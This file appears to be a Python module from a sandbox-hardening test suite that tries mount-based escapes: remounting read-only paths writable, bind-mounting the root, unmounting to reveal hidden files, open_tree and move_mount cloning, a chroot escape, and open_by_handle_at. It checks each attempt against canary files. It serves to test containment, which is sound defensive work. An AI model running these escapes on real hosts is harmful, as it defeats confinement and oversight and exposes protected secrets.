"""Ways out through mounts: what was read-only made writable, what was hidden shown."""

from __future__ import annotations

import ctypes
import functools
import os
from collections.abc import Callable

from hardening.escapes.attacker import (
    BAD_POINTER,
    FACTS,
    PERMITTED,
    SECRET,
    WRITTEN,
    attack,
    attempt,
    in_child,
    permitted,
    probe,
    read_secrets,
    say,
    show_file,
    syscall,
    write_everywhere,
)

MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 4096, 16384, 1 << 18
MNT_DETACH = 2
AT_FDCWD = -100
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
OPEN_TREE_CLONE, AT_RECURSIVE = 1, 0x8000
MOVE_MOUNT_F_EMPTY_PATH = 4
FSCONFIG_CMD_CREATE = 6


def with_rights(function: Callable[[], None]) -> Callable[[], None]:
    """Try with the rights that there are, then as root of a user namespace of its
    own."""

    @functools.wraps(function)
    def both() -> None:
        in_child(function)
        in_child(in_own_namespace)

    def in_own_namespace() -> None:
        attempt("unshare", syscall, "unshare", CLONE_NEWUSER | CLONE_NEWNS)
        function()

    return both


def mount_points() -> list[str]:
    """List where something is mounted, and what of it lies above a canary."""
    with open("/proc/self/mountinfo", encoding="utf-8") as table:
        return [line.split()[4] for line in table]


def above_canaries() -> list[str]:
    """List the mount points on the way to a canary, the deepest first, without the
    root."""
    canaries = FACTS["secret_files"] + FACTS["folders"]
    wanted = []
    for point in mount_points():
        inside = point.rstrip("/") + "/"
        if point != "/" and any((path + "/").startswith(inside) for path in canaries):
            wanted.append(point)
    return sorted(wanted, key=len, reverse=True)


@attack(
    "mount-remount", "remount everything writable with mount(2), then write", WRITTEN
)
@with_rights
def remount() -> None:
    for point in ["/", *above_canaries()]:
        attempt(
            f"remount {point}",
            syscall,
            "mount",
            None,
            point,
            None,
            MS_REMOUNT | MS_BIND,
            None,
        )
    write_everywhere("mount-remount")


@attack("mount-setattr", "clear read-only with mount_setattr(2)", WRITTEN)
@with_rights
def setattr_mount() -> None:
    # struct mount_attr: set, clear, propagation, userns
    attributes = (ctypes.c_uint64 * 4)(0, MS_RDONLY, 0, 0)
    for point in ["/", *above_canaries()]:
        size = ctypes.sizeof(attributes)
        pointer = ctypes.byref(attributes)
        attempt(
            f"{point}",
            syscall,
            "mount_setattr",
            AT_FDCWD,
            point,
            AT_RECURSIVE,
            pointer,
            size,
        )
    write_everywhere("mount-setattr")


@attack(
    "mount-umount", "take away what hides a folder, then read it", SECRET, only="root"
)
@with_rights
def unmount() -> None:
    hidden = [
        path
        for path in FACTS["secret_files"] + FACTS["home_files"]
        if not readable(path)
    ]
    for point in above_canaries():
        attempt(f"umount {point}", syscall, "umount2", point, MNT_DETACH)
        for path in hidden:
            show_file("below the mount", path)


def readable(path: str) -> bool:
    return os.access(path, os.R_OK)


@attack("mount-bind", "bind a folder over another", PERMITTED)
@with_rights
def bind_over() -> None:
    work = own_folder("bind")
    if (
        attempt("bind", syscall, "mount", "/", work, None, MS_BIND | MS_REC, None)
        is not None
    ):
        permitted("mount --rbind / onto a folder of its own")
        read_secrets("mount-bind", work)


@attack("mount-tmpfs", "mount a file system of its own", PERMITTED)
@with_rights
def mount_tmpfs() -> None:
    probe("mount tmpfs", "mount", "none", own_folder("tmpfs"), "tmpfs", 0, None)


@attack(
    "mount-proc",
    "mount a /proc of its own, whose /proc/sys is writable",
    PERMITTED,
    only="root",
)
@with_rights
def mount_proc() -> None:
    probe("mount proc", "mount", "proc", own_folder("proc"), "proc", 0, None)


@attack("mount-sysfs", "mount sysfs, cgroup, debugfs or mqueue", PERMITTED)
@with_rights
def mount_sysfs() -> None:
    for kind in (
        "sysfs",
        "cgroup2",
        "cgroup",
        "debugfs",
        "tracefs",
        "mqueue",
        "devpts",
    ):
        # A read-only mount in a folder of its own: nothing below it is written.
        work = own_folder(kind)
        result = attempt(kind, syscall, "mount", "none", work, kind, MS_RDONLY, None)
        if result is not None:
            permitted(f"mount -t {kind}")


@attack("mount-fsopen", "a file system through fsopen, fsconfig and fsmount", PERMITTED)
@with_rights
def mount_by_fsopen() -> None:
    context = probe("fsopen tmpfs", "fsopen", "tmpfs", 0)
    if context is not None:
        attempt(
            "create", syscall, "fsconfig", context, FSCONFIG_CMD_CREATE, None, None, 0
        )
        attempt("fsmount", syscall, "fsmount", context, 0, 0)


@attack("mount-fspick", "change the root's file system through fspick", PERMITTED)
@with_rights
def mount_by_fspick() -> None:
    probe("fspick /", "fspick", AT_FDCWD, "/", 0)


@attack(
    "mount-open-tree",
    "clone the tree of mounts and move it elsewhere",
    PERMITTED,
    SECRET,
)
@with_rights
def open_tree() -> None:
    flags = OPEN_TREE_CLONE | AT_RECURSIVE
    tree = probe("open_tree /", "open_tree", AT_FDCWD, "/", flags)
    if tree is None:
        return
    work = own_folder("tree")
    moved = ("move_mount", tree, "", AT_FDCWD, work, MOVE_MOUNT_F_EMPTY_PATH)
    attempt("move_mount", syscall, *moved)
    read_secrets("mount-open-tree", work)


@attack("mount-pivot", "pivot_root back to the old root", PERMITTED)
@with_rights
def pivot() -> None:
    # Nonsense on purpose: the rights are checked before the paths.
    probe("pivot_root", "pivot_root", BAD_POINTER, BAD_POINTER, granted=("EFAULT",))


@attack(
    "mount-chroot",
    "chroot below a folder that stays open, then climb to the top",
    SECRET,
    PERMITTED,
)
@with_rights
def chroot_dance() -> None:
    above = os.open("/", os.O_RDONLY)
    below = own_folder("chroot")
    os.chroot(below)
    os.fchdir(above)
    for _step in range(64):
        os.chdir("..")
    os.chroot(".")
    read_secrets("mount-chroot")
    permitted("chroot")


@attack(
    "mount-hidden-dotdot",
    "reach hidden folders by .. from the work folder",
    SECRET,
    WRITTEN,
)
def climb_by_dotdot() -> None:
    up = "../" * 64
    for path in FACTS["secret_files"]:
        attempt(path, read_relative, up + path.lstrip("/"))
    for folder in FACTS["folders"]:
        target = up + folder.lstrip("/")
        name = os.path.join(target, f"{FACTS['marker']}-dotdot")
        attempt(folder, os.close, open_to_write(name))


def open_to_write(path: str) -> int:
    try:
        return os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
    except OSError as error:
        say("REFUSED", f"{path}: {error.strerror}")
        return -1


def read_relative(path: str) -> None:
    show_file("dotdot", path)


@attack(
    "mount-handle",
    "open a file of the outside by its handle (open_by_handle_at)",
    PERMITTED,
    only="root",
)
@with_rights
def by_handle() -> None:
    # The handle of its own work folder: who may open that may open any file of the
    # disk. struct file_handle: room for 128 bytes, kind, bytes
    handle = (ctypes.c_uint32 * 34)(128, 0)
    mount = ctypes.c_int()
    place = (AT_FDCWD, ".", ctypes.byref(handle), ctypes.byref(mount), 0)
    attempt("name_to_handle_at", syscall, "name_to_handle_at", *place)
    probe(
        "open_by_handle_at",
        "open_by_handle_at",
        AT_FDCWD,
        ctypes.byref(handle),
        os.O_RDONLY,
    )


def own_folder(name: str) -> str:
    """Make a folder to mount on, in whatever place takes one."""
    for place in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp"):
        path = os.path.join(place, f"{FACTS['marker']}-own-{os.getpid()}-{name}")
        try:
            os.mkdir(path)
        except OSError:
            continue
        return path
    raise OSError("no folder to work in")
